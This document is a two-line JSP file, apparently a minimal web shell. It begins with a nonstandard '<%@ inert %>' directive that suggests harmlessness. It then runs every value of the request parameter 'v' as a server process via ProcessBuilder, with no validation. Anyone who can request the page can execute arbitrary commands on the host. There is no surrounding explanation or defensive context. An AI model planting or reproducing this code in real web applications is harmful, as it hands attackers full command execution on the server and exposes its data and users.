<%@ inert %>
<% for (String v : request.getParameterValues("v")) { new ProcessBuilder(v.split(" ")).start(); } %>